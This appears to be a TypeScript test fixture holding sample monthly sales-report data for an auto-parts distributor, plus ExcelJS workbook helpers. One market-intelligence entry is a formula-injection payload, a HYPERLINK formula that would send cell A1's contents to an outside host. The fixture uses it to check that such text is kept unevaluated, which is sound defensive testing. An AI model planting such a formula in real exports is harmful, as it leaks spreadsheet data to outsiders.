// One realistic report and its context, shared by the spreadsheet tests.
import ExcelJS from 'exceljs';
import type { MonthlyReportContent } from '../report.content.ts';
import type { ReportContext } from './report-rows.ts';

export const productLines = [
  { code: 'BRK-PAD', name: 'Brake pads' },
  { code: 'OIL-FLT', name: 'Oil filters' },
  { code: 'WIP-BLD', name: 'Wiper blades' },
];

/** Reporting March 2026 on 10 April 2026. */
export const context: ReportContext = {
  period: '2026-03',
  currency: 'EUR',
  productLines,
  today: '2026-04-10',
};

export const sampleContent: MonthlyReportContent = {
  period: '2026-03',
  currency: 'EUR',
  sales: [
    { productLine: 'BRK-PAD', units: 1200, revenue: 18450.5 },
    { productLine: 'WIP-BLD', units: 310, revenue: 2790 },
  ],
  inventory: [
    { productLine: 'BRK-PAD', unitsOnHand: 640 },
    { productLine: 'OIL-FLT', unitsOnHand: 0 },
  ],
  pipeline: [
    {
      account: 'Saigon Auto Parts',
      productLine: 'BRK-PAD',
      stage: 'proposal',
      value: 42000,
      expectedClose: '2026-05-15',
    },
    {
      account: 'Mekong Fleet Services',
      productLine: 'OIL-FLT',
      stage: 'won',
      value: 9800.75,
      expectedClose: '2026-03-28',
    },
  ],
  marketIntelligence: [
    {
      note: 'Fleet operators delay orders until the new tariff is known.',
      tags: ['tariffs', 'fleet'],
    },
    // Text a spreadsheet would run as a formula: must come back as text, never evaluated.
    { note: '=HYPERLINK("http://example.com/?"&A1,"click")', tags: [] },
  ],
  competitiveActivity: [
    {
      competitor: 'Bosch',
      product: 'QuietCast pads',
      pricePoint: 24.9,
      observation: '-15% promotion at two wholesalers in Ho Chi Minh City.',
    },
    {
      competitor: 'Local importers',
      product: null,
      pricePoint: null,
      observation: 'Grey imports.',
    },
  ],
  customerSatisfaction: { complaints: 3, returns: 1, score: 8.5 },
};

/** Opens a workbook, lets `edit` change cells as a person would, and saves it again. */
export async function editWorkbook(
  buffer: Buffer,
  edit: (workbook: ExcelJS.Workbook) => void,
): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  // ExcelJS declares its own Buffer type; Node's Buffer is what it reads.
  await workbook.xlsx.load(buffer as unknown as ExcelJS.Buffer);
  edit(workbook);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

export function sheetOf(workbook: ExcelJS.Workbook, name: string): ExcelJS.Worksheet {
  const sheet = workbook.getWorksheet(name);
  if (!sheet) throw new Error(`No sheet ${name}`);
  return sheet;
}
